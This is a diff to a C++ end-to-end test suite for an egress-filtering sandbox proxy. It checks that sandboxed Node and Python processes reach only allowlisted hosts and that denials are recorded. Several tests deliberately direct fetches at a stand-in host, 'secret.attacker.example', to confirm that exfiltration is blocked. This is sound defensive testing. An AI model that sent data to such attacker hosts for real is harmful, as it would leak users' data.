@@ -13,6 +13,7 @@
 #include <signal.h>
 #include <sys/wait.h>
 
+#include <algorithm>
 #include <chrono>
 #include <thread>
 
@@ -211,7 +212,11 @@ class EgressE2eTest : public ::testing::Test {
     EXPECT_EQ(r.value("rule_source", ""), "--allow-domain") << r.dump();
     EXPECT_FALSE(r.contains("error")) << r.dump();
     EXPECT_GE(r.value("bytes_down", std::uint64_t{0}), min_down) << r.dump();
-    EXPECT_GT(r.value("bytes_up", std::uint64_t{0}), 0u) << r.dump();
+    // Plain HTTP counts the body after the request head (none for a GET); a tunnel counts
+    // everything, the TLS handshake included.
+    if (protocol == "connect") {
+      EXPECT_GT(r.value("bytes_up", std::uint64_t{0}), 0u) << r.dump();
+    }
   }
   // A refused connection's record: denied, with the reason the client was told, nothing sent.
   static void ExpectDenied(const Json& r, const std::string& host, int port,
@@ -330,6 +335,7 @@ TEST_F(EgressE2eTest, NodeFetchWithUndicisEnvHttpProxyAgentPasses) {
   }
   NeedPki();
   // A copy in the workspace: undici has no dependencies, and the sandbox reads the workspace.
+  std::filesystem::create_directories(ws_ + "/node_modules");
   std::filesystem::copy(undici, ws_ + "/node_modules/undici",
                         std::filesystem::copy_options::recursive);
   LocalServer plain(dir_ / "s1", dir_ / "srv");
@@ -365,12 +371,14 @@ TEST_F(EgressE2eTest, NodeFetchWithUndicisEnvHttpProxyAgentPasses) {
             "import { EnvHttpProxyAgent, fetch } from 'undici';\n"
             "try { const r = await fetch(process.argv[2], { dispatcher: new EnvHttpProxyAgent() });"
             " console.log('status ' + r.status); }\n"
-            "catch (e) { console.log('failed ' + (e.cause?.message ?? e.message)); }\n");
+            "catch (e) { let m = 'failed'; for (let c = e; c; c = c.cause) m += ' / ' + c.message;"
+            " console.log(m); }\n");
   r = Exec({"/usr/bin/node", ws_ + "/denied.mjs",
             "https://secret.attacker.example:" + tls.port_text() + "/"},
            opts);
   EXPECT_EQ(r.exit_code, 0) << r.out << r.err;
-  EXPECT_NE(r.out.find("403"), std::string::npos) << r.out << r.err;
+  // undici: "Proxy response (403) !== 200 when HTTP Tunneling", under fetch's "fetch failed".
+  EXPECT_NE(r.out.find("Proxy response (403)"), std::string::npos) << r.out << r.err;
   recs = NetworkRecords();
   ASSERT_FALSE(recs.empty());
   ExpectDenied(recs.back(), "secret.attacker.example", tls.port(), "allow_domains");
@@ -609,7 +617,8 @@ print("ipv6", tcp(("2001:db8::1", 443, 0, 0), socket.AF_INET6))
 print("dns-api", name("api.example.test"))
 print("dns-public", name("registry.npmjs.org"))
 )";
-  auto r = Exec({"/usr/bin/python3", "-c", script, srv.port_text()});
+  // api.example.test is allowed and mapped: only through the proxy, which this process skips.
+  auto r = Exec({"/usr/bin/python3", "-c", script, srv.port_text()}, AllowApi(srv.port()));
   ASSERT_EQ(r.exit_code, 0) << r.out << r.err;
   EXPECT_NE(r.out.find("host-loopback ECONNREFUSED"), std::string::npos) << r.out;
   EXPECT_NE(r.out.find("nameserver-tcp ENETUNREACH"), std::string::npos) << r.out;
@@ -750,24 +759,60 @@ TEST_F(EgressE2eTest, OneConfiguredServersAllowlistDoesNotServeAnother) {
                         env_);
   ASSERT_EQ(r.exit_code, 0) << r.out << r.err;
   EXPECT_NE(r.out.find("2 status 403"), std::string::npos) << r.out;
-  EXPECT_NE(r.out.find(std::string("3 status 200 ") + kHello), std::string::npos) << r.out;
-  EXPECT_NE(r.out.find(std::string("4 status 200 ") + kHello), std::string::npos) << r.out;
+  EXPECT_NE(r.out.find("3 status 200 hello from the local server"), std::string::npos) << r.out;
+  EXPECT_NE(r.out.find("4 status 200 hello from the local server"), std::string::npos) << r.out;
+  // The server saw b's request and a's own, never a's request for b's name.
+  const std::string seen = srv.requests();
+  EXPECT_EQ(std::count(seen.begin(), seen.end(), '\n'), 2) << seen;
+  EXPECT_NE(seen.find("Host=b.example.test"), std::string::npos) << seen;
+  EXPECT_NE(seen.find("Host=a.example.test"), std::string::npos) << seen;
   auto recs = NetworkRecords();
   ASSERT_EQ(recs.size(), 3u) << Dump(recs);
-  EXPECT_EQ(recs[0].value("identity", ""), "tool mcp__a") << recs[0].dump();
+  EXPECT_EQ(recs[0].value("identity", ""), "server a") << recs[0].dump();
   EXPECT_EQ(recs[0].value("host", ""), "b.example.test") << recs[0].dump();
   EXPECT_EQ(recs[0].value("decision", ""), "denied") << recs[0].dump();
   EXPECT_NE(recs[0].value("reason", "").find("allow_domains"), std::string::npos) << recs[0].dump();
-  EXPECT_EQ(recs[1].value("identity", ""), "tool mcp__b") << recs[1].dump();
+  EXPECT_EQ(recs[1].value("identity", ""), "server b") << recs[1].dump();
   EXPECT_EQ(recs[1].value("host", ""), "b.example.test") << recs[1].dump();
   EXPECT_EQ(recs[1].value("decision", ""), "allowed") << recs[1].dump();
   EXPECT_EQ(recs[1].value("rule", ""), "b.example.test:" + port) << recs[1].dump();
   EXPECT_NE(recs[1].value("rule_source", "").find("servers.b.sandbox"), std::string::npos)
       << recs[1].dump();
-  EXPECT_EQ(recs[2].value("identity", ""), "tool mcp__a") << recs[2].dump();
+  EXPECT_EQ(recs[2].value("identity", ""), "server a") << recs[2].dump();
   EXPECT_EQ(recs[2].value("host", ""), "a.example.test") << recs[2].dump();
   EXPECT_EQ(recs[2].value("decision", ""), "allowed") << recs[2].dump();
   EXPECT_EQ(recs[2].value("address", ""), "127.0.0.1") << recs[2].dump();
+}
+
+// `cordon wrap` in front of a server that fetches: the same proxy, rules from wrap's flags, and
+// its records under the identity "tool wrap".
+TEST_F(EgressE2eTest, AWrappedServerReachesItsAllowedNameOnly) {
+  LocalServer srv(dir_ / "s", dir_ / "srv");
+  ASSERT_GT(srv.port(), 0);
+  WriteFile(ws_ + "/fetch_server.py", kFetchServer);
+  const Json calls = Json::array(
+      {Json::array({"fetch", {{"url", Url("http", srv.port(), "/hello.txt")}}}),
+       Json::array(
+           {"fetch",
+            {{"url", "http://secret.attacker.example:" + srv.port_text() + "/hello.txt"}}})});
+  std::vector<std::string> argv = {"/usr/bin/python3",   "-c",   kServeDriver,  calls.dump(),
+                                   testing::CordonBin(), "wrap", "--workspace", ws_,
+                                   "--audit-log",        Log()};
+  for (const auto& f : AllowApi(srv.port())) argv.push_back(f);
+  argv.insert(argv.end(), {"--", "/usr/bin/python3", ws_ + "/fetch_server.py"});
+  auto r = testing::Run(argv, env_);
+  ASSERT_EQ(r.exit_code, 0) << r.out << r.err;
+  EXPECT_NE(r.out.find("2 status 200 hello from the local server"), std::string::npos) << r.out;
+  EXPECT_NE(r.out.find("3 status 403"), std::string::npos) << r.out;
+  auto recs = NetworkRecords();
+  ASSERT_EQ(recs.size(), 2u) << Dump(recs);
+  EXPECT_EQ(recs[0].value("identity", ""), "tool wrap") << recs[0].dump();
+  EXPECT_EQ(recs[0].value("decision", ""), "allowed") << recs[0].dump();
+  EXPECT_EQ(recs[0].value("rule_source", ""), "--allow-domain") << recs[0].dump();
+  EXPECT_EQ(recs[1].value("identity", ""), "tool wrap") << recs[1].dump();
+  EXPECT_EQ(recs[1].value("host", ""), "secret.attacker.example") << recs[1].dump();
+  EXPECT_EQ(recs[1].value("decision", ""), "denied") << recs[1].dump();
+  EXPECT_EQ(srv.requests().find("secret"), std::string::npos) << srv.requests();
 }
 
 }  // namespace
